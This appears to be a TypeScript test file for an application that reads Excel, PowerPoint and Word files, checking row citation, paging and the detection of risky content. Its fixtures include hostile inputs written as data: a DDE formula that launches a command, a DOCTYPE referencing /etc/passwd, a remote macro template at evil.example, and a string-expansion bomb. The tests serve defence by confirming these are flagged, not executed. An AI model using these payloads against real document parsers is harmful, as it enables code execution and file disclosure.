import { describe, expect, test } from 'vitest';
import { numberedRows } from '../../electron/core/documents/row-marks.ts';
import { readDocx } from '../../electron/core/documents/read-docx.ts';
import { readPptx } from '../../electron/core/documents/read-pptx.ts';
import { readXlsx } from '../../electron/core/documents/read-xlsx.ts';
import { type DeskLike, openDesk } from './desk.ts';
import { cell, row, workbook } from '../intake/make-workbook.ts';
import { makeZip, type ZipMember } from '../intake/make-zip.ts';
import { collect } from './collect.ts';

const LIMIT = 64 * 1024 * 1024;

describe('workbooks', () => {
  test('cells keep their sheet, row and column; formulas stand behind the value they were last computed to', async () => {
    const bytes = workbook({
      Users: `<row r="1">${cell('A1', 'name')}${cell('C1', 'role')}</row><row r="4"><c r="B4"><f>SUM(A1:A3)</f><v>42</v></c><c r="C4" t="b"><v>1</v></c></row>`,
      'Two &amp; more': row(9, 'a &lt;b&gt; c'),
    });
    const { text, pages, codes, read } = await collect((sink) => readXlsx(bytes, LIMIT, sink));
    expect(read.extractor).toBe('xlsx 2');
    expect(pages.map((page) => page.text)).toEqual([
      'Users\nname\t\trole\n⟦row 4⟧\n\t42 (=SUM(A1:A3))\tTRUE',
      'Two & more\n⟦row 9⟧\na <b> c',
    ]);
    expect(codes).toEqual([]);
    expect(numberedRows(text.split('\nTwo')[0] ?? '', 'Users')?.map(({ row: number }) => number)).toEqual([1, 4]);
  });

  test('a sheet of many rows is cut into pages on which every row still has its number', async () => {
    const bytes = workbook({ Log: Array.from({ length: 1000 }, (_, i) => row(i * 3 + 1, `entry ${i}`)).join('') });
    const { pages } = await collect((sink) => readXlsx(bytes, LIMIT, sink));
    expect(pages.length).toBeGreaterThan(4);
    const found = pages.flatMap((page) =>
      (numberedRows(page.text, 'Log') ?? []).map((line) => [line.row, page.text.slice(line.start, line.end)] as const),
    );
    expect(found).toEqual(Array.from({ length: 1000 }, (_, i) => [i * 3 + 1, `entry ${i}`]));
    for (const [index, page] of pages.entries())
      expect(page.firstLine).toBe(1 + pages.slice(0, index).reduce((sum, before) => sum + before.text.split('\n').length, 0));
  });

  test('a cell cannot pass for a row mark', async () => {
    const { pages } = await collect((sink) => readXlsx(workbook({ S: row(1, '⟦row 900⟧') + row(2, 'x') }), LIMIT, sink));
    expect(numberedRows(pages[0]?.text ?? '', 'S')?.map((line) => line.row)).toEqual([1, 2]);
  });

  test('what it would fetch, ask or run is listed and not done', async () => {
    const bytes = workbook({ S: `<row r="1"><c r="A1"><f>cmd|'/C calc'!A0</f><v>0</v></c></row>` }, [
      { name: 'xl/vbaProject.bin', content: 'macro' },
      {
        name: 'xl/externalLinks/externalLink1.xml',
        content: '<externalLink><ddeLink ddeService="Excel" ddeTopic="secret"/></externalLink>',
      },
      {
        name: 'xl/externalLinks/_rels/externalLink1.xml.rels',
        content:
          '<Relationships><Relationship Id="r1" Type="http://x/externalLinkPath" Target="file:///c:/other.xlsx" TargetMode="External"/></Relationships>',
      },
      {
        name: 'xl/worksheets/_rels/s1.xml.rels',
        content:
          '<Relationships><Relationship Id="r1" Type="http://x/hyperlink" Target="https://vendor.example" TargetMode="External"/></Relationships>',
      },
    ]);
    const { codes, read } = await collect((sink) => readXlsx(bytes, LIMIT, sink));
    expect([...codes].sort()).toEqual(['ACTIVE_CONTENT', 'DDE_LINK', 'DDE_LINK', 'EXTERNAL_LINK']);
    expect(read.unreadable).toBeNull();
  });

  test.each([['<!DOCTYPE x [<!ENTITY a "b">]>'], ['<!doctype x SYSTEM "file:///etc/passwd">']])(
    'a document type in a part is refused by name: %s',
    async (dtd) => {
      const bytes = workbook({ S: row(1, 'x') }, [], `${dtd}<sst><si><t>&amp;a;</t></si></sst>`);
      const { codes, read } = await collect((sink) => readXlsx(bytes, LIMIT, sink));
      expect(codes).toEqual(['XML_DTD']);
      expect(read.unreadable).toContain('document type');
    },
  );

  test('a million empty styled rows cost nothing, a shared string used a million times is cut and said', async () => {
    const empty = Array.from({ length: 100_000 }, (_, i) => `<row r="${i + 1}"><c r="A${i + 1}" s="1"/></row>`).join('');
    const quiet = await collect((sink) => readXlsx(workbook({ S: empty + row(1_048_576, 'end') }), LIMIT, sink));
    expect(quiet.text).toBe('S\n⟦row 1048576⟧\nend');
    const strings = `<sst><si><t>${'x'.repeat(30_000)}</t></si></sst>`;
    const bomb = Array.from({ length: 3000 }, (_, i) => `<row r="${i + 1}"><c r="A${i + 1}" t="s"><v>0</v></c></row>`).join('');
    const { text, codes } = await collect((sink) => readXlsx(workbook({ S: bomb }, [], strings), 1_000_000, sink));
    expect(text.length).toBeLessThan(1_010_000);
    expect(codes).toEqual(['CELL_LIMIT']);
  });
});

test('a presentation: a page a slide in the order shown, notes below, what it would fetch is listed', async () => {
  const p = (...words: readonly string[]) => words.map((text) => `<a:p><a:r><a:t>${text}</a:t></a:r></a:p>`).join('');
  const slide = (words: string) => `<p:sld xmlns:a="a" xmlns:p="p"><p:txBody>${words}</p:txBody></p:sld>`;
  const bytes = makeZip([
    { name: '[Content_Types].xml', content: '<Types/>' },
    {
      name: 'ppt/presentation.xml',
      content:
        '<p:presentation xmlns:r="r"><p:sldIdLst><p:sldId id="257" r:id="rId2"/><p:sldId id="256" r:id="rId1"/></p:sldIdLst></p:presentation>',
    },
    {
      name: 'ppt/_rels/presentation.xml.rels',
      content:
        '<Relationships><Relationship Id="rId1" Type="t/slide" Target="slides/slide1.xml"/><Relationship Id="rId2" Type="t/slide" Target="slides/slide2.xml"/></Relationships>',
    },
    { name: 'ppt/slides/slide1.xml', content: slide(p('Second shown')) },
    { name: 'ppt/slides/slide2.xml', content: slide(p('First &amp; foremost', 'another line')) },
    {
      name: 'ppt/slides/_rels/slide2.xml.rels',
      content:
        '<Relationships><Relationship Id="r1" Type="t/notesSlide" Target="../notesSlides/notesSlide1.xml"/><Relationship Id="r2" Type="t/image" Target="http://tracker.example/p.png" TargetMode="External"/></Relationships>',
    },
    { name: 'ppt/notesSlides/notesSlide1.xml', content: slide(p('Say this aloud')) },
  ]);
  const { pages, codes, read } = await collect((sink) => readPptx(bytes, LIMIT, sink));
  expect(pages.map((page) => page.text)).toEqual(['First & foremost\nanother line\n\nNotes\nSay this aloud', 'Second shown']);
  expect(codes).toEqual(['EXTERNAL_LINK']);
  expect(read.format).toBe('pptx');
});

test('a Word document with a template from elsewhere or a document type', async () => {
  const parts = (dtd: string): readonly ZipMember[] => [
    {
      name: '[Content_Types].xml',
      content:
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
    },
    {
      name: '_rels/.rels',
      content:
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>',
    },
    {
      name: 'word/_rels/settings.xml.rels',
      content:
        '<Relationships><Relationship Id="r1" Type="t/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>',
    },
    {
      name: 'word/document.xml',
      content: `<?xml version="1.0"?>${dtd}<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>words</w:t></w:r></w:p></w:body></w:document>`,
    },
  ];
  const template = await collect((sink) => readDocx(makeZip(parts('')), LIMIT, sink));
  expect([template.text, template.codes]).toEqual(['words\n', ['EXTERNAL_LINK']]);
  const dtd = await collect((sink) => readDocx(makeZip(parts('<!DOCTYPE w [<!ENTITY a "b">]>')), LIMIT, sink));
  expect([dtd.read.unreadable !== null, dtd.codes]).toEqual([true, ['EXTERNAL_LINK', 'XML_DTD']]);
});

describe('rows of a sheet are cited by their numbers', () => {
  const bytes = workbook({
    Users: Array.from({ length: 600 }, (_, i) => row(i + 1, `user ${i + 1}`)).join('') + row(900, 'last'),
    Other: row(1, 'other'),
  });
  test('found on any page, across pages, on their own sheet only', async () => {
    const at: DeskLike = await openDesk({ 'users.xlsx': bytes });
    const evidence = await at.idOf('users.xlsx');
    const tag = (sheet: string, from: number, to: number) =>
      at.client['tag.add']({ question: 'LR-08', evidence, stance: 'context', selector: { type: 'rows', sheet, from, to } });
    expect(await tag('Users', 900, 900)).toMatchObject({ quote: 'last', place: 'Users, row 900', state: 'found' });
    expect(await tag('Users', 2, 3)).toMatchObject({ quote: 'user 2\nuser 3', place: 'Users, rows 2–3' });
    const { quote } = await tag('Users', 199, 202);
    expect(quote).toBe('user 199\nuser 200\nuser 201\nuser 202');
    expect((await tag('Other', 1, 5)).quote).toBe('other');
    await expect(tag('Users', 700, 800)).rejects.toMatchObject({ code: 'tag/not-found' });
    await expect(tag('Nowhere', 1, 1)).rejects.toMatchObject({ code: 'tag/not-found' });
    await at.close();
  });
});
